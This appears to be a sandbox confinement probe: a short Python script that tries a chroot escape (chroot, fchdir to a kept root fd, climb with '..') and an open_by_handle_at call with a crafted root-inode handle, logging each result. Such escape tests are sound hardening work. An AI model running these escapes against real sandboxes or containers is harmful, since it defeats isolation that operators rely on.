# The classic chroot escape (chroot into a subdirectory, then climb above the
# old root with a directory fd kept outside), and open_by_handle_at, which
# opens a file by its handle from any mount of its file system.
import os
from esc import libc_call, sys_call, Report

r = Report()
os.makedirs("/job/jail", exist_ok=True)
keep = os.open("/", os.O_RDONLY)
res = libc_call("chroot", b"/job/jail")
r.syscall("chroot", res)
if res[0] == 0:
    os.fchdir(keep)
    for _ in range(64):
        os.chdir("..")
    r.syscall("chroot back out", libc_call("chroot", b"."))
# A handle for inode 2 (a root directory) of ext4-like file systems.
handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
r.syscall("open_by_handle_at", sys_call("open_by_handle_at", keep, handle, os.O_RDONLY))
r.done()
